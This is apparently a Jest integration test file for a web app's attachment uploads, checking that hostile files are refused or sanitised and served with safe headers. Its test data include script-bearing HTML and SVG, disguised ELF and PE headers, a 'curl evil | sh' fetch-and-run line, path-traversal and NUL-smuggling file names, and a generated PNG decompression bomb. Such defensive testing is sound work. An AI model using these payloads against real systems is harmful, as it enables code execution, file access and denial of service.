import { crc32, deflateSync } from 'node:zlib';
import type { Response } from 'supertest';
import { AttachmentPlaces } from '../../src/attachments/attachment-places';
import { download, linksFor, TINY_PNG, upload, uploadFile } from '../support/attachment-factories';
import { createThread, postMessage, setupGroup, TestGroup } from '../support/factories';
import { createTestApp, TestApp } from '../support/test-app';

/** The issue asks for 10,000 files of spam; a normal run sends 200 (ATTACHMENT_SPAM_FULL=1 for the full run). */
const SPAM = process.env.ATTACHMENT_SPAM_FULL === '1' ? 10_000 : 200;

/** A PNG chunk: length, type, data, CRC. */
function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A few hundred bytes that declare a 50000 × 50000 image: decoding it would take 10 GB (a decompression bomb). */
function pngBomb(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(50_000, 0);
  header.writeUInt32BE(50_000, 4);
  header.writeUInt8(8, 8); // bit depth
  header.writeUInt8(6, 9); // RGBA
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.alloc(64 * 1024))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/**
 * A multipart body written by hand, for names no form library would send: the name as RFC 5987 `filename*`, percent-
 * encoded, so a NUL or a control character reaches the server inside it.
 */
function rawMultipart(filename: string, bytes: Buffer): { boundary: string; body: Buffer } {
  const boundary = 'tansiq-boundary-7c1f';
  return {
    boundary,
    body: Buffer.concat([
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename*=UTF-8''${encodeURIComponent(filename)}\r\n` +
          'Content-Type: application/octet-stream\r\n\r\n',
        'utf8',
      ),
      bytes,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]),
  };
}

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);
const PE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(128)]);

describe('attachments: hostile files', () => {
  let t: TestApp;
  let group: TestGroup;
  let messageId: string;
  let threadId: string;
  const statuses: number[] = [];

  beforeAll(async () => {
    t = await createTestApp();
    group = await setupGroup(t);
    threadId = (await createThread(t, group.id, group.member)).id;
    messageId = (await postMessage(t, threadId, group.member, 'files')).message.id;
  });
  afterAll(async () => {
    await t.close();
  });

  const track = (res: Response) => {
    statuses.push(res.status);
    return res;
  };
  const attach = (ids: string[]) =>
    t.db.transaction((tx) =>
      t.app.get(AttachmentPlaces).claim(tx, group.member, group.id, ids, { place: 'message', messageId, threadId }),
    );

  it.each([
    ['an HTML page', Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>'), 'page.html'],
    ['HTML named .txt', Buffer.from('<html><script>alert(1)</script></html>'), 'notes.txt'],
    ['an SVG with script', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'logo.svg'],
    ['an SVG named .png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>'), 'a.png'],
    ['HTML disguised as .png', Buffer.from('\n <HTML><BODY onload="alert(1)"></BODY></HTML>'), 'photo.png'],
    ['a PNG+HTML polyglot', Buffer.concat([TINY_PNG, Buffer.from('<html><script>alert(1)</script></html>')]), 'p.png'],
    ['an ELF program named .pdf', ELF, 'report.pdf'],
    ['a PE program named .pdf', PE, 'report.pdf'],
    ['a shell script named .txt', Buffer.from('#!/bin/bash\ncurl evil | sh\n'), 'readme.txt'],
  ])('refuses %s with 415 file-type-refused, keeping nothing', async (_, bytes, name) => {
    const before = (await t.db.query('SELECT count(*)::int AS n FROM stored_file_chunks'))[0].n;
    const res = track(await upload(t, group.id, group.member, { bytes, name, contentType: 'image/png' }));
    expect(res.status).toBe(415);
    expect(res.body.code).toBe('file-type-refused');
    expect((await t.db.query('SELECT count(*)::int AS n FROM stored_file_chunks'))[0].n).toBe(before);
    expect(
      (
        await t.db.query(`SELECT count(*)::int AS n FROM attachments WHERE status <> 'attached' AND name = $1`, [name])
      )[0].n,
    ).toBe(0);
  });

  it('strips a path from the name: ../../etc/passwd is stored as passwd', async () => {
    const res = track(
      await upload(t, group.id, group.member, { bytes: Buffer.from('root:x:0:0'), name: '../../etc/passwd' }),
    );
    expect(res.status).toBe(201);
    expect(res.body.name).toBe('passwd');
    const windows = track(
      await upload(t, group.id, group.member, { bytes: Buffer.from('x'), name: '..\\..\\boot.ini' }),
    );
    expect(windows.body.name).toBe('boot.ini');
  });

  it('drops a NUL and control characters from a name, and refuses a name with nothing left', async () => {
    const withNul = rawMultipart('evil\u0000.txt.\u0007', Buffer.from('text'));
    const res = track(
      await t
        .http()
        .post(`/api/groups/${group.id}/attachments`)
        .set(group.member.auth)
        .set('Content-Type', `multipart/form-data; boundary=${withNul.boundary}`)
        .send(withNul.body),
    );
    expect({ status: res.status, body: res.body }).toMatchObject({ status: 201, body: { name: 'evil.txt' } });
    const empty = rawMultipart('../..', Buffer.from('text'));
    const refused = track(
      await t
        .http()
        .post(`/api/groups/${group.id}/attachments`)
        .set(group.member.auth)
        .set('Content-Type', `multipart/form-data; boundary=${empty.boundary}`)
        .send(empty.body),
    );
    expect(refused.status).toBe(400);
    expect(refused.body.code).toBe('file-name-invalid');
  });

  it('stores a decompression-bomb PNG (50000 × 50000 declared) without a thumbnail, and answers quickly', async () => {
    const bomb = pngBomb();
    expect(bomb.length).toBeLessThan(2048);
    const started = Date.now();
    const res = track(await upload(t, group.id, group.member, { bytes: bomb, name: 'bomb.png' }));
    expect(Date.now() - started).toBeLessThan(5000);
    expect([201, 415]).toContain(res.status);
    if (res.status === 201) expect(res.body).toMatchObject({ hasThumbnail: false, width: null, height: null });
  });

  it('never believes the browser: a text file sent as text/html is stored as text/plain', async () => {
    const res = track(
      await upload(t, group.id, group.member, { bytes: Buffer.from('hello'), name: 'a.txt', contentType: 'text/html' }),
    );
    expect(res.body.contentType).toBe('text/plain');
  });

  it('serves every file with nosniff, a sandboxing CSP, and as an attachment unless an image or PDF', async () => {
    const files = [
      { bytes: TINY_PNG, name: 'dot.png', disposition: 'inline', type: 'image/png' },
      { bytes: Buffer.from('%PDF-1.4\n%%EOF\n'), name: 'doc.pdf', disposition: 'inline', type: 'application/pdf' },
      { bytes: Buffer.from('plain'), name: 'notes.txt', disposition: 'attachment', type: 'text/plain' },
      { bytes: Buffer.from('a,b\n'), name: 'table.csv', disposition: 'attachment', type: 'text/csv' },
      {
        bytes: Buffer.from([1, 2, 3, 4]),
        name: 'blob.bin',
        disposition: 'attachment',
        type: 'application/octet-stream',
      },
    ];
    const uploaded: { id: string }[] = [];
    for (const file of files) uploaded.push(await uploadFile(t, group.id, group.member, file));
    await attach(uploaded.map((f) => f.id));
    const links = await linksFor(
      t,
      group.observer,
      uploaded.map((f) => f.id),
    );
    const thumbs = await linksFor(t, group.observer, [uploaded[0].id], 'thumbnail');
    const served = [
      ...files.map((file, i) => ({ ...file, url: links[uploaded[i].id].url })),
      { url: thumbs[uploaded[0].id].url, disposition: 'inline', type: 'image/webp' },
    ];
    for (const file of served) {
      const res = track(await download(t, file.url));
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toBe(file.type);
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(res.headers['content-security-policy']).toBe("default-src 'none'; sandbox; style-src 'unsafe-inline'");
      expect(res.headers['cross-origin-resource-policy']).toBe('same-origin');
      expect(res.headers['content-disposition'].split(';')[0]).toBe(file.disposition);
      expect(res.headers['cache-control']).toMatch(/^private, max-age=\d+$/);
      // The rest of helmet's headers stay on file responses too.
      expect(res.headers['x-frame-options']).toBe('SAMEORIGIN');
      expect(res.headers['strict-transport-security']).toBeDefined();
    }
  });

  it(`takes ${SPAM} small uploads in a row within the quota, every one 201 (ATTACHMENT_SPAM_FULL=1: 10000)`, async () => {
    const spammed = await setupGroup(t, {
      facilitator: group.facilitator,
      member: group.member,
      observer: group.observer,
    });
    const answers: number[] = [];
    for (let i = 0; i < SPAM; i += 1) {
      const res = await upload(t, spammed.id, group.member, { bytes: Buffer.from(`spam ${i}`), name: `spam-${i}.txt` });
      answers.push(res.status);
    }
    statuses.push(...answers);
    expect(answers.filter((status) => status !== 201)).toEqual([]);
    const [{ n }] = await t.db.query(`SELECT count(*)::int AS n FROM attachments WHERE group_id = $1`, [spammed.id]);
    expect(n).toBe(SPAM);
  }, 600_000);

  it('answered no request with a 5xx', () => {
    expect(statuses.length).toBeGreaterThan(20);
    expect(statuses.filter((status) => status >= 500)).toEqual([]);
  });
});
